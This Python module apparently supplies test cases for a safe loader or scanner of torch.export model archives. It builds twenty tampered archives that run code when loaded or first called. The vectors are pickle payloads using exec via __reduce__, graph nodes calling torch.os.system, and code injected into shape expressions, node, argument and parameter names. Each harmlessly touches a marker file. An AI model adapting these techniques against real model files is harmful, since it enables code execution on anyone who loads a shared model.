"""torch.export archives that run code when loaded or first called: each leaves a marker file if it succeeds.

A case takes the entries of a sound archive (name → bytes, without the root) and the marker's path, and
changes the entries in place.
"""

import io
import json
import pickle
import zipfile
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import torch
from torch import nn

Entries = dict[str, bytes]
Attack = Callable[[Entries, Path], None]

PROGRAM = "models/model.json"
SAMPLES = "data/sample_inputs/model.pt"
WEIGHTS = "data/weights/model_weights_config.json"
CONSTANTS = "data/constants/model_constants_config.json"


class Payload:
    """Unpickling it creates the marker."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (f"open({str(self.marker)!r}, 'w').close()",)


def sound() -> Entries:
    """The entries of an archive that torch.export.save wrote."""
    return dict(_sound())


@cache
def _sound() -> Entries:
    module = nn.Sequential(nn.Flatten(), nn.Linear(4, 3), nn.ReLU(), nn.Linear(3, 2)).eval()
    buffer = io.BytesIO()
    torch.export.save(torch.export.export(module, (torch.rand(1, 4),)), buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name.split("/", 1)[1]: archive.read(name) for name in archive.namelist()}


def write(entries: Entries, path: Path, root: str = "evil/") -> None:
    """A zip of the entries, stored uncompressed as torch writes it."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, content in entries.items():
            archive.writestr(root + name, content)


def edited(content: bytes, change: Callable[[Any], None]) -> bytes:
    tree = json.loads(content)
    change(tree)
    return json.dumps(tree).encode()


def torch_pickle(marker: Path) -> bytes:
    buffer = io.BytesIO()
    torch.save(({"x": Payload(marker)}, {}), buffer)
    return buffer.getvalue()


def _samples(entries: Entries, marker: Path) -> None:
    entries[SAMPLES] = torch_pickle(marker)


def _pickled_weight(entries: Entries, marker: Path) -> None:
    entries["data/weights/weight_0"] = torch_pickle(marker)
    entries[WEIGHTS] = edited(entries[WEIGHTS], lambda c: c["config"]["1.weight"].update(use_pickle=True))


def _legacy_weights(entries: Entries, marker: Path) -> None:
    entries["data/weights/model.pt"] = torch_pickle(marker)


def _legacy_constants(entries: Entries, marker: Path) -> None:
    entries["data/constants/model.pt"] = torch_pickle(marker)


def _constant(path_name: str, content: Callable[[Path], bytes]) -> Attack:
    def attack(entries: Entries, marker: Path) -> None:
        entries[f"data/constants/{path_name}"] = content(marker)
        meta = {"path_name": path_name, "is_param": False, "use_pickle": True, "tensor_meta": None}
        entries[CONSTANTS] = edited(entries[CONSTANTS], lambda c: c["config"].update(evil=meta))

    return attack


def _plain_pickle(marker: Path) -> bytes:
    return pickle.dumps(Payload(marker), protocol=2)


def _call(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w')"


def _graph(change: Callable[[Any, Path], None]) -> Attack:
    """An attack through the text of the graph."""

    def attack(entries: Entries, marker: Path) -> None:
        entries[PROGRAM] = edited(entries[PROGRAM], lambda tree: change(tree["graph_module"], marker))

    return attack


def _target(module: Any, marker: Path) -> None:
    node = module["graph"]["nodes"][0]
    node["target"] = "torch.os.system"
    node["inputs"] = [{"name": "", "arg": {"as_string": f"touch {marker}"}, "kind": 1}]


def _from_file(module: Any, marker: Path) -> None:
    node = module["graph"]["nodes"][0]
    node["target"] = "torch.ops.aten.from_file.default"
    node["inputs"] = [
        {"name": "filename", "arg": {"as_string": str(marker)}, "kind": 1},
        {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
        {"name": "size", "arg": {"as_int": 4}, "kind": 1},
    ]


def _operator_argument(module: Any, marker: Path) -> None:
    module["graph"]["nodes"][0]["inputs"].append({"name": "", "arg": {"as_operator": "torch.os.system"}, "kind": 1})


def _shape_expression(module: Any, marker: Path) -> None:
    sizes = module["graph"]["tensor_values"]["input"]["sizes"]
    sizes[0] = {"as_expr": {"expr_str": f"__import__('pathlib').Path({str(marker)!r}).touch() or 1", "hint": None}}


def _node_name(module: Any, marker: Path) -> None:
    """The name of an input is written into the source of `forward` as it is."""
    evil = f"input={_call(marker)}"
    text = json.dumps(module).replace('"name": "input"', json.dumps({"name": evil})[1:-1])
    module.clear()
    module.update(json.loads(text))
    module["graph"]["tensor_values"][evil] = module["graph"]["tensor_values"].pop("input")


def _argument_name(module: Any, marker: Path) -> None:
    signature = module["module_call_graph"][0]["signature"]
    signature["forward_arg_names"] = [f"input={_call(marker)}"]


def _parameter_name(module: Any, marker: Path) -> None:
    module["signature"]["input_specs"][0]["parameter"]["parameter_name"] = f'1.w"), {_call(marker)}, ("'


def _tree(type_: str, context: Any) -> Callable[[Any, Path], None]:
    def change(module: Any, marker: Path) -> None:
        evil = {"type": type_, "context": json.dumps(context), "children_spec": []}
        module["module_call_graph"][0]["signature"]["out_spec"] = json.dumps([1, evil])

    return change


def _custom_object(module: Any, marker: Path) -> None:
    module["graph"]["nodes"][0]["inputs"].append(
        {"name": "x", "arg": {"as_custom_obj": {"name": "evil", "class_fqn": "torch.os"}}, "kind": 1}
    )


ATTACKS: dict[str, Attack] = {
    "pickled example inputs": _samples,
    "a weight as a pickle": _pickled_weight,
    "older weights": _legacy_weights,
    "older constants": _legacy_constants,
    "a constant as a pickle": _constant("tensor_0", torch_pickle),
    "an opaque object": _constant("opaque_obj_0", _plain_pickle),
    "a custom object": _constant("custom_obj_0", _plain_pickle),
    "a target outside aten": _graph(_target),
    "a target that maps a file": _graph(_from_file),
    "an operator as an argument": _graph(_operator_argument),
    "code in a shape": _graph(_shape_expression),
    "code in the name of a node": _graph(_node_name),
    "code in the name of an argument": _graph(_argument_name),
    "code in the name of a parameter": _graph(_parameter_name),
    "a tree that imports": _graph(_tree("builtins.list", {"__enum__": True, "fqn": "this:x", "name": "y"})),
    "a tree with a factory": _graph(
        _tree("collections.defaultdict", {"default_factory_module": "this", "default_factory_name": "x"})
    ),
    "a custom object in the graph": _graph(_custom_object),
    "compiled code": lambda entries, marker: entries.update({"data/aotinductor/model/x.so": b"\x7fELF"}),
    "an unknown entry": lambda entries, marker: entries.update({"data/other.pkl": b"\x80\x02."}),
    "a second program": lambda entries, marker: entries.update({"models/other.json": b"{}"}),
}
